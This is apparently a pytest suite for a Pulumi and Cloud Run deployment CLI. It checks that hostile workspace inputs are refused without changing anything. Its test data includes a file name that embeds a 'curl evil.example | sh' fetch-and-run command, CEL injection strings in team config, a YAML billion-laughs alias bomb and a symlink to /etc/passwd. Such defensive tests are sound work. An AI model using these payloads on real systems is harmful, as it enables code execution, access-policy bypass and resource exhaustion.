"""A hostile workspace (issue #23): every name or value that could reach a generated file, a
shell line, a CEL expression, an IAM member or a resource name is refused where it enters;
windows Cloud Run or Cloud Scheduler would refuse at class time are refused at `event add`;
what used to be ignored without a word is a clear exit 2 (or a warning); hostile files never
hang, crash or ship.

The table runs each case as the bad-input table does: exit 2, the option, key or file named,
and nothing created, changed or removed (nor any Pulumi command but `version`).
"""

from __future__ import annotations

import os
from collections.abc import Callable
from pathlib import Path

import pytest
import yaml
from conftest import PulumiStandIn
from helpers import refused, stx, stx_json

STACK_FILE = "stacks/Pulumi.hello-course.dev.yaml"
TEAM_FILE = "team/stacks/Pulumi.team.yaml"
APP = "examples/hello-course"
WINDOW = ("event", "add", "hello-course", "--start", "2026-12-01 08:00", "--end",
          "2026-12-01 10:00", "--tz", "Europe/Paris")


def _write(relative: str, text: str | bytes) -> Callable[[Path], None]:
    def setup(ws: Path) -> None:
        (ws / relative).parent.mkdir(parents=True, exist_ok=True)
        if isinstance(text, bytes):
            (ws / relative).write_bytes(text)
        else:
            (ws / relative).write_text(text)
    return setup


def _team(**config: str) -> Callable[[Path], None]:
    """A committed team stack file with these settings (as a hostile commit would hold)."""
    def setup(ws: Path) -> None:
        (ws / "team" / "stacks").mkdir(parents=True)
        (ws / "team" / "Pulumi.yaml").write_text("name: stx-pulumi-team\nruntime: python\n"
                                                 "stackConfigDir: stacks\n")
        values = {"gcp:project": "course-project-1", "gcp:region": "europe-west1",
                  **{k.replace("__", ":"): v for k, v in config.items()}}
        (ws / TEAM_FILE).write_text(yaml.safe_dump({"config": values}))
    return setup


def _both(*setups: Callable[[Path], None]) -> Callable[[Path], None]:
    def setup(ws: Path) -> None:
        for one in setups:
            one(ws)
    return setup


def _none(ws: Path) -> None:
    """No file edited: the command line alone is hostile."""


def _yaml_text(text: str) -> Callable[[Path], None]:
    return _write(STACK_FILE, text)


COURSE_BOOKS = _write("stacks/Pulumi.course.dev.yaml", yaml.safe_dump({"config": {
    "stx:path": APP, "stx:books": {"intro": {"folder": "."}}}}))

CASES: list[tuple[str, Callable[[Path], None], tuple[str, ...], str]] = [
    # -- injection into CI and into the CI identity --------------------------------------
    ("stack file name with a shell line",
     _write("stacks/Pulumi.hello-course.dev;curl -s evil.example | sh;x.yaml", "config: {}\n"),
     ("up", "--all", "--yes"), "not a stack file name"),
    ("stack file name with a newline", _write("stacks/Pulumi.hello-course.dev\nx.yaml", ""),
     ("plan", "--all"), "not a stack file name"),
    ("team file protected env injects CEL",
     _team(team__protectedEnvs="prod,zz'] || true || 'a' in ['"),
     ("team", "setup"), TEAM_FILE),
    ("team file default branch injects CEL",
     _team(team__github="my-school/courses", team__githubId="123456",
           team__defaultBranch="main'] || true || 'a' in ['"), ("team", "setup"), TEAM_FILE),
    ("team file members everyone", _team(team__members="everyone"), ("team", "setup"),
     TEAM_FILE),
    ("team file github id not a number",
     _team(team__github="my-school/courses", team__githubId="abc"), ("team", "setup"),
     TEAM_FILE),
    ("member with no user", _none, ("team", "setup", "--project", "course-project-1",
                                    "--member", "user:@"), "--member"),
    ("members joined by a comma", _none, ("team", "setup", "--project", "course-project-1",
                                          "--member", "user:a@b.org,user:c@d.org"), "--member"),
    ("members joined by a newline", _none, ("team", "setup", "--project", "course-project-1",
                                            "--member", "user:a@b.org\nuser:c@d.org"),
     "--member"),
    # -- event windows Cloud Run or Cloud Scheduler would refuse at class time -----------
    ("window min above cloud run's", _none, (*WINDOW, "--min", "5000"), "--min: at most 1000"),
    ("window users beyond any service", _none, (*WINDOW, "--users", "99999999999"),
     "--users: at most 1,000,000"),
    ("window longer than a month", _none, (*WINDOW[:6], "2027-01-15 10:00", *WINDOW[7:],
                                           "--users", "10", "--long"), "more than 31 days"),
    ("window in year 9999", _none, (*WINDOW[:4], "9999-12-01 08:00", "--end",
                                    "9999-12-01 10:00", "--users", "10"),
     "--start: 9999-12-01 08:00 is not a date this century"),
    ("window more than a year ahead", _none, (*WINDOW[:4], "2028-12-01 08:00", "--end",
                                              "2028-12-01 10:00", "--users", "10"),
     "more than a year ahead"),
    ("window warm-up of forever", _none, (*WINDOW, "--users", "10", "--warm",
                                          "99999999999h"), "--warm"),
    ("window with an empty zone", _none, (*WINDOW[:-2], "--tz", "", "--users", "10"),
     "--tz: empty"),
    ("window users in arabic digits", _none, (*WINDOW, "--users", "١٠"),
     "'١٠': write numbers with the digits 0-9"),
    # -- silent wrong deploys ----------------------------------------------------------------
    ("app takes a book's service", COURSE_BOOKS,
     ("up", "course-intro", "--path", APP, "--yes"),
     "the Cloud Run service course-intro-dev of course-intro.dev would also be book intro of "
     "course.dev"),
    ("env takes another app's service", _none,
     ("up", "hello", "--path", APP, "--env", "course-dev", "--yes"),
     "the Cloud Run service hello-course-dev of hello.course-dev would also be "
     "hello-course.dev"),
    ("a book given twice", _none, ("plan", "hello-course", "--book", "intro=.", "--book",
                                   "intro=sub"), "--book: 'intro' is given twice"),
    ("a max given twice", _none, ("plan", "hello-course", "--max", "20", "--max", "30"),
     "--max: given twice for the app"),
    ("a book the dockerignore leaves out",
     _both(_write(f"{APP}/sub/book.py", "import streamtex\n"),
           _write(f"{APP}/.dockerignore", "sub/\n.venv/\n")),
     ("plan", "hello-course", "--book", "intro=sub"), "excluded by"),
    ("port 0", _none, ("plan", "hello-course", "--port", "0"), "stx:port (--port)"),
    ("empty builder", _none, ("plan", "hello-course", "--builder", ""), "--builder: empty"),
    ("empty folder", _none, ("plan", "hello-course", "--folder", ""), "--folder: empty"),
    ("unset a book it does not have", _none,
     ("up", "hello-course", "--unset", "books.nosuch", "--yes"),
     "--unset: books.nosuch: hello-course.dev has no book 'nosuch'"),
    ("duplicate yaml key", _yaml_text("config:\n  stx:maxInstances: 5\n  stx:maxInstances: 50\n"),
     ("plan", "hello-course"), "the key 'stx:maxInstances' is given twice"),
    ("yaml key with a leading space", _yaml_text('config:\n  " stx:port": 8501\n'),
     ("plan", "hello-course"), "is not plain ASCII without spaces"),
    ("yaml key with a cyrillic s", _yaml_text("config:\n  ѕtx:port: 8501\n"),
     ("plan", "hello-course"), "is not plain ASCII without spaces"),
    ("a list where one value is asked", _yaml_text(
        f"config:\n  stx:path: {APP}\n  stx:domain: [a.example.org, b.example.org]\n"),
     ("plan", "hello-course"), "stx:domain (--domain): expected one value"),
    ("a bad value in Pulumi.yaml hidden by the stack file",
     _write("Pulumi.yaml", "name: stx-pulumi\nruntime: python\nstackConfigDir: stacks\n"
            "config:\n  stx:maxInstances: 5000\n"),
     ("plan", "hello-course", "--max", "20"), "Pulumi.yaml: stx:maxInstances (--max)"),
    ("deploy env typo", _write(f"{APP}/.stx-deploy.env", "GCP_PROJECT_ID=course-project-1\n"
                               "GCP_REGIOM=europe-west1\n"),
     ("plan", "hello-course"), ".stx-deploy.env:2: 'GCP_REGIOM' is not a setting"),
    ("deploy env garbage line", _write(f"{APP}/.stx-deploy.env", "this is not an env file\n"),
     ("plan", "hello-course"), ".stx-deploy.env:1:"),
    ("deploy env bad region names the file and line",
     _write(f"{APP}/.stx-deploy.env", "GCP_REGION=Europe West\n"), ("plan", "hello-course"),
     ".stx-deploy.env:1: GCP_REGION"),
    ("deploy env not utf-8", _write(f"{APP}/.stx-deploy.env", b"GCP_REGION=\xff\n"),
     ("plan", "hello-course"), ".stx-deploy.env: not UTF-8"),
    # -- hostile files ---------------------------------------------------------------------
    ("dockerignore not utf-8", _write(f"{APP}/.dockerignore", b".venv/\n\xfe\xff\n"),
     ("plan", "hello-course"), ".dockerignore: not UTF-8"),
    ("a yaml billion laughs", _yaml_text(
        "a: &a [x, x, x, x, x, x, x, x, x]\nb: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]\n"
        "c: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b]\nconfig: {}\n"),
     ("plan", "hello-course"), "aliases (*name) are not allowed"),
    ("a 10 MB stack file", _yaml_text("config:\n  stx:region: " + "x" * 10_000_000 + "\n"),
     ("plan", "hello-course"), "more than a settings file holds"),
    ("logs since forever", _none, ("logs", "hello-course", "--since", "999999999d"),
     "--since"),
    ("logs since longer than kept", _none, ("logs", "hello-course", "--since", "99999d"),
     "--since: at most 30d"),
]


def test_there_are_cases_of_each_kind() -> None:
    assert len(CASES) >= 40


@pytest.mark.parametrize(("setup", "args", "named"), [c[1:] for c in CASES],
                         ids=[c[0] for c in CASES])
def test_hostile_input_is_refused_naming_it_and_changes_nothing(
        workspace: Path, pulumi_cli: PulumiStandIn, setup: Callable[[Path], None],
        args: tuple[str, ...], named: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("STX_PULUMI_NOW", "2026-11-23T12:00Z")
    result = refused(workspace, setup, args, named)
    assert len(result.output) < 5000  # a 10 MB value is never printed back whole
    assert "Traceback" not in result.output and "unexpected error" not in result.output
    assert [c for c in pulumi_cli.commands() if c not in ("version", "stack ls", "")] == []


def test_a_long_value_is_cut_in_the_message(workspace: Path) -> None:
    result = stx("plan", "hello-course", "--region", "x" * 1_000_000)
    assert result.exit_code == 2 and "gcp:region (--region)" in result.output
    assert len(result.output) < 1000


# -- files that used to hang, crash or ship -------------------------------------------------

def test_a_fifo_in_the_app_folder_is_skipped_with_a_warning(workspace: Path) -> None:
    os.mkfifo(workspace / APP / "pipe")  # reading it would block forever
    result = stx("plan", "hello-course")
    assert result.exit_code == 0, result.output
    assert "pipe in" in result.output and "not a regular file" in result.output


def test_a_dangling_symlink_is_sent_as_a_link_and_one_out_of_the_context_is_refused(
        workspace: Path) -> None:
    (workspace / APP / "gone").symlink_to(workspace / "nowhere")
    assert stx("plan", "hello-course").exit_code == 0
    (workspace / APP / "passwd").symlink_to("/etc/passwd")
    result = stx("plan", "hello-course")
    assert result.exit_code == 2
    assert "passwd in" in result.output and "symlink out of the build context" in result.output


def test_rollback_to_a_non_ascii_number_is_no_release(workspace: Path,
                                                      pulumi_cli: PulumiStandIn) -> None:
    assert stx("up", "hello-course", "--yes", "--no-verify").exit_code == 0
    for to, named in (("²", "write numbers with the digits 0-9"),
                      ("١", "write numbers with the digits 0-9"), ("1.5", "--to: no release")):
        result = stx("rollback", "hello-course", "--to", to, "--yes")
        assert result.exit_code == 2 and named in result.output, to


# -- records that must not push releases out ----------------------------------------------

def test_rollbacks_never_push_the_releases_out_of_the_history() -> None:
    from stx_pulumi.model.releases import KEEP, kept

    records = [{"n": n, "kind": "up"} for n in range(1, KEEP + 1)]
    records += [{"n": n, "kind": "rollback"} for n in range(KEEP + 1, 3 * KEEP + 1)]
    kept_now = kept(records)
    assert [r["n"] for r in kept_now if r["kind"] == "up"] == list(range(1, KEEP + 1))
    assert len([r for r in kept_now if r["kind"] == "rollback"]) == KEEP


def test_status_shows_the_apps_it_can_read_and_marks_the_one_it_cannot(
        workspace: Path, pulumi_cli: PulumiStandIn) -> None:
    assert stx("up", "hello-course", "--yes", "--no-verify").exit_code == 0
    assert stx("up", "other-course", "--path", APP, "--yes", "--no-verify").exit_code == 0
    state = workspace / ".pulumi-state/.pulumi/stacks/stx-pulumi/other-course.dev.json"
    state.write_text("{not json")
    data = stx_json("status", "--no-check")
    rows = {r["stack"]: r for r in data["stacks"]}
    assert rows["hello-course.dev"]["error"] is None and rows["hello-course.dev"]["urls"]
    assert rows["other-course.dev"]["error"]
